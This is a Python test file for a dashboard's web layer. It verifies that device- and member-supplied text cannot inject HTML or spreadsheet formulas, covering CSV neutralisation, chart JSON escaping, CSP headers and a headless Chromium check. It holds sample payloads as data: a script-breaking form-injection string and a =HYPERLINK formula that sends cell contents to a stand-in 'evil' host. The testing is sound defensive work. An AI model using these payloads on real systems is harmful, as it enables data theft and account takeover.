"""Text from devices and members is data, never markup or a formula.

Scenario: a device books a sale whose category is `</script><form action=//evil>...`,
and HQ enters a member with such a name. In a real headless Chromium, the report and
the member page show the text as text: no form of the attacker's exists in the DOM,
the chart's labels hold the string as it was, and the CSP forbids posting a form
anywhere but the dashboard. The CSV export turns `=HYPERLINK(...)` and the other
formula starts into quoted text. /metrics, which needs no login, carries aggregates
only: no device id and no branch name.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable

from fastapi.testclient import TestClient

from hub import admin
from hub.web import export
from hub.web.server import WebServer
from tests.hub.support import Device, purchase
from tests.web.conftest import PASSWORD, WebHub

Client = Callable[[str], tuple[TestClient, str]]

EVIL = "</script><form action=//evil><input id=pwn></form>"
FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _book(web_hub: WebHub, *categories: str) -> None:
    seeded = web_hub.seeded
    device = Device(seeded.device_id, seeded.device_key)
    results = seeded.hub.ledger.apply_batch(
        [
            device.incoming(seeded.cards[0], purchase(1_000 + i, category=c))
            for i, c in enumerate(categories)
        ]
    )
    assert all(r.accepted for r in results), [r.reason for r in results]


def test_formula_cells_are_neutralised_in_the_csv(web_hub: WebHub, client_for: Client) -> None:
    _book(web_hub, *FORMULAS)
    client, _ = client_for("hq")
    response = client.get("/reports.csv?name=categories")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {r["category"] for r in rows} == {"'" + f for f in FORMULAS}
    assert all(float(r["gross_yuan"]) > 0 for r in rows)  # numbers stay numbers


def test_neutral_cell_leaves_plain_text_and_numbers_alone() -> None:
    assert export.neutral_cell("grocery") == "grocery"
    assert export.neutral_cell("a=1") == "a=1"
    assert export.neutral_cell(-500) == -500
    assert export.neutral_cell("\uff1d1+1") == "'\uff1d1+1"
    assert export.csv_text([]) == ""
    assert export.csv_text([{"=a": "-1", "b": 2}]).splitlines() == ["'=a,b", "'-1,2"]


def test_chart_data_cannot_close_its_script_tag(web_hub: WebHub, client_for: Client) -> None:
    _book(web_hub, EVIL)
    client, _ = client_for("hq")
    page = client.get("/reports?name=categories").text
    assert "</script><form" not in page and "<form action=//evil" not in page
    blob = re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', page, re.S)
    assert blob is not None
    assert EVIL in json.loads(blob.group(1))["labels"]


def test_the_csp_allows_forms_and_frames_only_from_the_dashboard(client_for: Client) -> None:
    client, _ = client_for("hq")
    policy = client.get("/fleet").headers["content-security-policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["form-action"] == "'self'"
    assert directives["frame-ancestors"] == "'none'"
    assert directives["base-uri"] == "'none'"
    assert "script-src" not in directives and directives["default-src"] == "'self'"


def test_metrics_need_no_login_and_name_no_device_or_branch(web_hub: WebHub) -> None:
    _book(web_hub, "grocery")
    with TestClient(web_hub.app, base_url="https://testserver") as client:
        response = client.get("/metrics")
    assert response.status_code == 200
    text = response.text
    assert "tapcard_transfers_total 1" in text
    assert "tapcard_outbox_intents 0" in text
    for name in ("kiosk-1", "kiosk-2", "shop-1", "shop-2", "device=", "branch="):
        assert name not in text, name


def test_injected_markup_shows_as_text_in_chromium(
    web_hub: WebHub, live_server: WebServer, browser_page: object
) -> None:
    page = browser_page
    _book(web_hub, EVIL)
    rules = web_hub.seeded.hub.rules.latest()
    with web_hub.seeded.hub.transaction() as conn:
        member = admin.add_member(
            conn, admin.NewMember(EVIL, "13800000077", branch_id="shop-1"), rules, "", "test"
        )
    blocked: list[str] = []
    page.on("request", lambda r: blocked.append(r.url) if "evil" in r.url else None)  # type: ignore[attr-defined]
    page.goto(live_server.url + "/login")  # type: ignore[attr-defined]
    page.fill("input[name=username]", "hq")  # type: ignore[attr-defined]
    page.fill("input[name=password]", PASSWORD)  # type: ignore[attr-defined]
    page.click("button[type=submit]")  # type: ignore[attr-defined]
    page.wait_for_url("**/fleet")  # type: ignore[attr-defined]
    for path in ("/reports?name=categories", f"/members/{member}"):
        response = page.goto(live_server.url + path)  # type: ignore[attr-defined]
        assert "form-action 'self'" in response.headers["content-security-policy"]
        assert page.locator("form[action*=evil]").count() == 0, path  # type: ignore[attr-defined]
        assert page.locator("#pwn").count() == 0, path  # type: ignore[attr-defined]
        assert EVIL in page.inner_text("main"), path  # type: ignore[attr-defined]
    page.goto(live_server.url + "/reports?name=categories")  # type: ignore[attr-defined]
    page.wait_for_selector("canvas#chart[data-rendered='1']")  # type: ignore[attr-defined]
    assert page.evaluate("window.tapcardChart.data.labels") == [EVIL]  # type: ignore[attr-defined]
    assert blocked == []
